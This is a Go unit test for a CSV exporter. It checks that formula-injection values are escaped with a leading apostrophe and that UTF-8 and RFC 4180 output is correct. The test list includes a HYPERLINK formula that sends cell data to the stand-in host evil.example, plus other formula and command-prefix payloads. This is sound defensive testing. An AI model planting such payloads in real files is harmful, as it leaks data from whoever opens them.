package page

import (
	"encoding/csv"
	"strings"
	"testing"
)

func TestACSVFileRunsNoFormula(t *testing.T) {
	evil := []string{
		`=HYPERLINK("https://evil.example/?"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=1\"2", "|cmd", "%0A", "＝1+1", "－1",
	}
	rows := [][]Cell{{TextCell("订单, \"引号\""), NumberCell("-12.00"), TextCell("ord_1")}}
	for _, e := range evil {
		rows = append(rows, []Cell{TextCell(e), NumberCell(e), TextCell("x")})
	}
	file, err := CSV(rows)
	if err != nil {
		t.Fatal(err)
	}
	body, marked := strings.CutPrefix(string(file), "\ufeff")
	if !marked {
		t.Error("no mark of UTF-8: spreadsheets show Chinese as noise")
	}
	if strings.Count(body, "\r\n") < len(rows) {
		t.Error("lines do not end as RFC 4180 wants")
	}
	read, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := read[0]; got[0] != `订单, "引号"` || got[1] != "-12.00" || got[2] != "ord_1" {
		t.Errorf("harmless cells were changed: %q", got)
	}
	for i, row := range read[1:] {
		for _, cell := range row[:2] {
			if !strings.HasPrefix(cell, "'") {
				t.Errorf("%q is read as a formula: %q", evil[i], cell)
			}
		}
	}
}
